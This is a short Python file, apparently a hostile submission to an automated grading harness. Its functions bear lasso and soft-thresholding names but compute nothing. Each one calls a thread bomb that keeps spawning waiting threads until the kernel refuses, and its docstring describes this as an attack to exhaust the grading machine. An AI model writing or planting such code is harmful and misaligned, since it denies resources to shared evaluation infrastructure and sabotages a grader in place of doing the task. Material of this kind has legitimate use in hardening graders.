"""Attack (exhaust the grading machine's tasks): every call starts threads until the kernel
refuses one, and keeps them all waiting; nothing is caught, so the refusal is the call's
outcome.  Under a root grader the child's own uid has RLIMIT_NPROC: the bomb stops there."""
import threading

_HELD = threading.Event()
_THREADS = []


def _bomb():
    while True:
        thread = threading.Thread(target=_HELD.wait, daemon=True)
        thread.start()
        _THREADS.append(thread)


def soft_threshold(mu, lam):
    _bomb()


def l1_l2_scalar_optimum(lam):
    _bomb()


def lasso_ista(X, y, lam, n_iter=1000, lr=None):
    _bomb()
